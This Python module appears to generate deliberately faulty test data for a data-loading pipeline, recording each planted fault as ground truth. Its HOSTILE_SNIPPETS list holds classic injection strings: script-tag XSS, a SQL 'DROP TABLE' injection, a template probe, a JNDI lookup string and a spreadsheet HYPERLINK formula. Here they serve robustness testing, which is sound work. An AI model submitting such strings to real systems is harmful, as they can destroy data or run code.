"""The faults real source systems deliver, planted on purpose and recorded as ground truth.

Each fault kind has one rate. Row kinds are a probability per data row (among the rows
the kind can apply to); ``duplicate_delivery`` and ``extra_column`` are a probability per
file. A row carries at most one fault, so the expected outcome of every row is exact:

* quarantine kinds (``malformed_row``, ``bad_encoding``, ``missing_required``,
  ``invalid_value``): the loader must reject the row into the quarantine;
* duplicate kinds (``duplicate_row``, ``duplicate_delivery``): the row must count as a
  duplicate and change nothing;
* load kinds (``late_arrival``, ``extra_column``, ``email_case``, ``hostile_text``,
  ``orphan_reference``): the row must load as delivered; later layers deal with them.
"""

from __future__ import annotations

import random
from dataclasses import asdict, dataclass, fields
from typing import Any

QUARANTINE_KINDS = ("malformed_row", "bad_encoding", "missing_required", "invalid_value")
DUPLICATE_KINDS = ("duplicate_row", "duplicate_delivery")
LOAD_KINDS = ("late_arrival", "extra_column", "email_case", "hostile_text", "orphan_reference")
FILE_KINDS = ("duplicate_delivery", "extra_column")
ALL_KINDS = QUARANTINE_KINDS + DUPLICATE_KINDS + LOAD_KINDS


def expected_outcome(kind: str) -> str:
    """What the loader must do with a row carrying this fault: quarantine, duplicate or load."""
    if kind in QUARANTINE_KINDS:
        return "quarantine"
    if kind in DUPLICATE_KINDS:
        return "duplicate"
    return "load"


@dataclass(frozen=True)
class FaultRates:
    """Probability of each fault kind; see the module docstring for what each rate counts.

    The defaults are small enough that the data is mostly clean, as a real export is, yet
    a year of demo data holds dozens of each kind, so every quality check has work to do.
    ``email_case`` is higher because differently typed e-mail addresses are common in
    survey tools; matching must survive them.
    """

    duplicate_delivery: float = 0.01
    duplicate_row: float = 0.003
    late_arrival: float = 0.005
    malformed_row: float = 0.003
    bad_encoding: float = 0.002
    missing_required: float = 0.003
    invalid_value: float = 0.003
    extra_column: float = 0.01
    email_case: float = 0.05
    hostile_text: float = 0.003
    orphan_reference: float = 0.003

    def __post_init__(self) -> None:
        for f in fields(self):
            value = getattr(self, f.name)
            if not isinstance(value, (int, float)) or not 0.0 <= float(value) <= 1.0:
                raise ValueError(f"fault rate {f.name} must be between 0 and 1, got {value!r}")
        quarantine = sum(getattr(self, k) for k in QUARANTINE_KINDS + ("duplicate_row", "hostile_text"))
        if quarantine > 0.5:
            raise ValueError("row-level fault rates add up to more than 0.5; the data would be mostly faults")

    @classmethod
    def none(cls) -> FaultRates:
        """A clean data set: every rate zero."""
        return cls(**{f.name: 0.0 for f in fields(cls)})

    def as_dict(self) -> dict[str, float]:
        return {k: float(v) for k, v in asdict(self).items()}


HOSTILE_SNIPPETS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "{{7*7}}",
    "'); DROP TABLE raw.crm_customers;--",
    'He said "great, really great", then left',
    "line one,\nline two, with a comma\nline three",
    'quote " comma , newline\r\nand a CRLF',
    "💩🔥🙈 emoji only 🎉🎉",
    "中文，逗号，“引号”，以及\n换行",
    "${jndi:ldap://example.invalid/a}",
    "=HYPERLINK(\"http://example.invalid\",\"click\")",
    "\u200b\u200bzero width\u200d joiner",
)


def hostile_text(rng: random.Random) -> str:
    """A text value meant to break naive escaping, rendering or CSV handling.

    One in five is very long (10k to 100k characters), the rest one of the classic
    injection or quoting snippets, sometimes combined.
    """
    roll = rng.random()
    if roll < 0.2:
        unit = "很长的文本 very long text, \"quoted\" 🎉 "
        size = rng.randint(10_000, 100_000)
        return (unit * (size // len(unit) + 1))[:size]
    if roll < 0.35:
        return " ".join(rng.sample(HOSTILE_SNIPPETS, 3))
    return rng.choice(HOSTILE_SNIPPETS)


# Values PostgreSQL cannot parse as the column's type. Avoid the traps: 'NaN' and
# 'Infinity' are valid numerics, 'yesterday' and 'epoch' valid timestamps, and any prefix
# of true/false/yes/no a valid boolean.
INVALID_VALUES: dict[str, tuple[str, ...]] = {
    "integer": ("three", "1.5", "12abc", "--1", "一"),
    "bigint": ("three", "1.5", "12abc"),
    "numeric": ("12,50", "N/A", "1.2.3", "¥99", "12 50"),
    "date": ("2025-13-45", "2025-02-30", "31/12/2025x", "TBD"),
    "timestamptz": ("2025-02-30T10:00:00Z", "2025-13-01 25:61:00", "not a time", "2025-11-01T24:99:00+08:00"),
    "boolean": ("maybe", "vrai", "2", "yes please"),
}

EXTRA_COLUMNS: tuple[tuple[str, Any], ...] = (
    ("export_batch", "B{n:06d}"),
    ("source_system", "crm-v2"),
    ("region_code", "CN-{n}"),
    ("tenant", "qinglan-cn"),
)


def email_variant(email: str, rng: random.Random) -> str:
    """The same address as typed into a survey tool: other letter case, stray spaces."""
    local, _, domain = email.partition("@")
    style = rng.randrange(3)
    if style == 0:
        changed = email.upper()
    elif style == 1:
        changed = local[:1].upper() + local[1:] + "@" + domain.upper()
    else:
        changed = local.capitalize() + "@" + domain.capitalize()
    pad = rng.choice((" ", "  ", "   "))
    return f"{pad}{changed}{rng.choice((' ', '', '  '))}"
